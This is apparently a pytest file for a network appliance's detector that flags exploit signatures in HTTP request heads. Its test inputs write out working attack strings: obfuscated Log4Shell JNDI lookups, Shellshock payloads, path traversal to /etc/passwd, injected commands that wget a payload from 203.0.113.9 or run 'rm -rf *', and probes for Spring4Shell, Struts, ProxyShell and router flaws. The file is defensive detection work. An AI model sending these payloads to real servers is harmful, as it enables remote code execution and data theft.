"""Exploits in heads of requests."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appliance.decode import http_traces
from appliance.facts import ExploitTraced
from tests.kit.reading import CLIENT


def request(path: str = "/", agent: str = "curl/8.5", *, method: str = "GET") -> bytes:
    return f"{method} {path} HTTP/1.1\r\nHost: nas\r\nUser-Agent: {agent}\r\n\r\n".encode()


def traces(payload: bytes) -> list[str]:
    found = list(http_traces.read(payload, CLIENT))
    assert all(isinstance(it, ExploitTraced) for it in found)
    return [it.trace for it in found if isinstance(it, ExploitTraced)]


@pytest.mark.parametrize(
    "words",
    [
        "${jndi:ldap://203.0.113.9/a}",
        "${JNDI:rmi://203.0.113.9/a}",
        "${${lower:j}ndi:ldap://x/a}",
        "${${lower:j}${upper:n}${lower:d}i:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
        "${${lower:${lower:j}}ndi:dns://x}",
        "%24%7Bjndi:ldap://x/a%7D",
        "%2524%257Bjndi%3aldap://x/a%257D",
    ],
)
def test_log4shell_is_seen_in_any_writing(words: str):
    """In a field, or in the path."""
    assert traces(request(agent=words)) == ["log4shell"]
    assert traces(request(f"/?q={words}")) == ["log4shell"]


@pytest.mark.parametrize(
    ("payload", "trace"),
    [
        (request("/cgi-bin/s", "() { :; }; /bin/id"), "shellshock"),
        (request("/cgi-bin/s", "() { _; } >_[$($())] { id; }"), "shellshock"),
        (request("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"), "traversal"),
        (request("/icons/.%%32%65/.%%32%65/etc/passwd"), "traversal"),
        (request("/?file=../../../../etc/passwd"), "traversal"),
        (request("/..\\..\\..\\windows\\win.ini"), "traversal"),
        (request("/cgi-bin/../../bin/sh", method="POST"), "traversal"),
        (request("/setup.cgi?todo=syscmd&cmd=a;wget+http://203.0.113.9/m"), "shell"),
        (request("/shell?cd+/tmp;rm+-rf+*;wget%20http://203.0.113.9/m"), "shell"),
        (request("/x?ip=`busybox${IFS}wget`"), "shell"),
        (request("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), "phpunit"),
        (request("/?s=/x/invokefunction&function=call_user_func_array"), "thinkphp"),
        (request("/autodiscover/autodiscover.json?@a.b/powershell/"), "proxyshell"),
        (request("/SDK/webLanguage", method="PUT"), "hikvision"),
        (request("/ctrlt/DeviceUpgrade_1", method="POST"), "huawei"),
        (request("/?class.module.classLoader.resources.x=1"), "spring4shell"),
        (request("/", "%{(#_='multipart/form-data').(#x)}"), "struts"),
    ],
)
def test_each_exploit_is_told_by_its_sign(payload: bytes, trace: str):
    assert traces(payload) == [trace]


@pytest.mark.parametrize(
    "payload",
    [
        request(),
        request("/log4j?v=${version}&q=jndi:ldap"),
        request("/a/../b/../c.css"),
        request("/docs/etc/passwd"),
        request("/?q=wget+or+curl&curl=1&x=1;y=2"),
        request("/", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"),
        request("/?f=function()%20{return%201}"),
        request("/?t={%23if}&u=%23{x}"),
        request(method="POST") + b"text=${jndi:ldap://x/a}&more=() { :; };",
        b"HTTP/1.1 200 OK\r\nX-A: ${jndi:ldap://x/a}\r\n\r\n",
    ],
)
def test_ordinary_requests_bodies_and_answers_have_none(payload: bytes):
    """A message about an exploit has its words in the body."""
    assert traces(payload) == []


def test_words_in_a_form_that_is_sent_have_a_key_of_their_own():
    """A person may send such words; a page is no form."""
    start = b"POST /login HTTP/1.1\r\nContent-Type: "
    body = b"\r\n\r\nuser=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D&q=() { :; };"
    assert traces(start + b"application/x-www-form-urlencoded" + body) == ["log4shell_form"]
    assert traces(start + b"text/plain" + body) == []


def test_the_same_sign_twice_is_one_trace_and_two_signs_are_two():
    both = request("/?q=${jndi:ldap://x/a}${jndi:ldap://x/b}", "() { :; };")
    assert traces(both) == ["log4shell", "shellshock"]


@given(st.binary(max_size=300), st.sampled_from((b"${", b"%", b"${::-", b"../", b"() {")))
def test_no_bytes_make_it_raise(after: bytes, start: bytes):
    traces(b"GET /" + start * 5 + after)


def test_a_head_made_to_be_slow_is_not():
    """Nested words without end, and thousands of beginnings."""
    for part in (b"${a:-", b"${lower:", b":-", b"() {", b"../../", b"%25"):
        traces(b"GET /" + part * (9000 // len(part)))
